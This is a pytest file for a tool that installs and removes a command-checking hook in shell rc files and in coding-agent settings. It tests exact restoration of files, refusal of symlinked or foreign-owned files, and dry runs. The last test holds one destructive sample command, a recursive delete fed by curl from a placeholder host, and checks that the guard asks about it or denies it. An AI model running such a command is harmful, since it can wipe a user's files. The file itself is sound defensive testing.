"""`guard install` and `guard uninstall`: what is written, that it comes out byte for byte, and what is refused."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from runaway_watchdog.guard import agents, install
from runaway_watchdog.guard.agents import AGENTS

PROGRAM = ["/usr/bin/runaway-watchdog"]
COMMAND = "/usr/bin/runaway-watchdog guard --check"


def changed(target: str, home: Path, *, remove: bool = False) -> install.Change:
    change = install.change(target, PROGRAM, remove=remove, home=home)
    install.write(change)
    return change


@pytest.fixture(autouse=True)
def _own_folders(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ZDOTDIR", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)


@pytest.mark.parametrize("target", install.TARGETS)
@pytest.mark.parametrize("before", [None, b"", b"\n", b"{}", b'{"a": 1}\n', b'{"hooks": {"PreToolUse": []}}'])
def test_it_comes_out_byte_for_byte(target: str, before: bytes | None, tmp_path: Path) -> None:
    """Also twice put in; mode and all."""
    path = changed(target, tmp_path).path
    changed(target, tmp_path, remove=True)
    assert not path.exists()
    if before is None or (target in AGENTS and not before.strip()):
        return
    path.write_bytes(before)
    path.chmod(0o640)
    changed(target, tmp_path)
    once = path.read_bytes()
    assert once != before
    assert install.change(target, PROGRAM, remove=False, home=tmp_path).after == once
    changed(target, tmp_path, remove=True)
    assert path.read_bytes() == before
    assert path.stat().st_mode & 0o777 == 0o640


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)


@given(
    st.dictionaries(st.text(max_size=5), JSON, max_size=3),
    st.sampled_from([None, {}, {"PreToolUse": []}, {"PreToolUse": [{"matcher": "x", "hooks": []}]}, {"Stop": []}]),
    st.sampled_from([None, 2, "\t"]),
)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_settings_come_out_as_they_were(
    document: dict[str, object], hooks: object, indent: int | str | None
) -> None:
    """Whatever is in them, however they are laid out; and with the hook in they hold it, and all that they held."""
    before = json.dumps(document | ({} if hooks is None else {"hooks": hooks}), indent=indent)
    if not isinstance(json.loads(before).get("hooks", {}), dict):
        return
    after = agents.with_hook(before, AGENTS["claude-code"], COMMAND)
    assert json.loads(agents.element(AGENTS["claude-code"], COMMAND)) in json.loads(after)["hooks"]["PreToolUse"]
    assert {key: value for key, value in json.loads(after).items() if key != "hooks"} == {
        key: value for key, value in document.items() if key != "hooks"
    }
    assert agents.without_hook(after, AGENTS["claude-code"]) == before


def test_settings_that_were_laid_out_anew_lose_the_hook_alone() -> None:
    """By the agent itself, say, which writes its settings too."""
    agent = AGENTS["claude-code"]
    after = agents.with_hook('{"hooks": {"PreToolUse": [{"matcher": "Edit", "hooks": []}]}, "x": 1}', agent, COMMAND)
    left = agents.without_hook(json.dumps(json.loads(after), indent=4), agent)
    assert left is not None
    assert "runaway" not in left
    assert json.loads(left)["x"] == 1


@pytest.mark.parametrize("text", ["", "// c\n{}", "[]", '{"hooks": []}', '{"hooks": {"PreToolUse": {}}}', "{"])
def test_settings_of_another_form_are_refused(text: str) -> None:
    """Nothing is guessed in a file of somebody else's form."""
    with pytest.raises(agents.SettingsError):
        agents.with_hook(text, AGENTS["claude-code"], COMMAND)


def test_links_and_what_others_own_are_refused(tmp_path: Path) -> None:
    """Of the file and of every folder above it."""
    real = tmp_path / "real"
    real.mkdir()
    (real / ".bashrc").write_text("x\n")
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(install.RefusedError, match="is a link"):
        changed("bash", tmp_path / "link")
    (tmp_path / ".bashrc").symlink_to(real / ".bashrc")
    with pytest.raises(install.RefusedError, match="is a link"):
        changed("bash", tmp_path)
    (tmp_path / ".zshrc").mkdir()
    with pytest.raises(install.RefusedError, match="no regular file"):
        changed("zsh", tmp_path)
    real.chmod(0o777)
    with pytest.raises(install.RefusedError, match="can be changed by other users"):
        changed("bash", real)
    assert (real / ".bashrc").read_text() == "x\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
def test_root_writes_nothing_that_others_own(tmp_path: Path) -> None:
    """As after `sudo -E`, with that person's HOME."""
    os.chown(tmp_path, 65534, 65534)
    with pytest.raises(install.RefusedError, match="belongs to another user"):
        changed("bash", tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_file_that_changed_meanwhile_is_left(tmp_path: Path) -> None:
    """Between what was shown and what would be written."""
    wanted = install.change("bash", PROGRAM, remove=False, home=tmp_path)
    (tmp_path / ".bashrc").write_text("new\n")
    with pytest.raises(install.RefusedError, match="just been changed"):
        install.write(wanted)


def called(home: Path, *words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "runaway_watchdog", "guard", *words], capture_output=True, text=True, check=False,
        env={**os.environ, "HOME": str(home), "PYTHONPATH": os.pathsep.join(sys.path)},
    )  # fmt: skip


def test_what_is_written_is_shown(tmp_path: Path) -> None:
    """And --dry-run writes none of it."""
    dry = called(tmp_path, "install", "bash", "--dry-run")
    assert dry.returncode == 0
    assert "would be added" in dry.stdout
    assert not (tmp_path / ".bashrc").exists()
    done = called(tmp_path, "install", "bash")
    assert done.returncode == 0
    assert (tmp_path / ".bashrc").read_text().strip() in done.stdout
    assert "already installed" in called(tmp_path, "install", "bash").stdout
    assert called(tmp_path, "uninstall", "bash").returncode == 0
    assert not (tmp_path / ".bashrc").exists()
    assert "not installed" in called(tmp_path, "uninstall", "bash").stdout
    assert called(tmp_path, "install", "tcsh").returncode == 2
    (tmp_path / ".bashrc").symlink_to("/dev/null")
    refused = called(tmp_path, "install", "bash")
    assert refused.returncode == 1
    assert "nothing was written" in refused.stderr


def test_an_agent_that_cannot_ask_is_denied(tmp_path: Path) -> None:
    """Its hook is installed so; for one that can, "ask" stays."""
    assert "--no-ask" in changed("codex", tmp_path).piece
    assert "--no-ask" not in changed("claude-code", tmp_path).piece
    line = "rm -rf $(curl -s https://x.example)"
    assert json.loads(called(tmp_path, "--check", "--", line).stdout)["permission"] == "ask"
    assert json.loads(called(tmp_path, "--check", "--no-ask", "--", line).stdout)["permission"] == "deny"
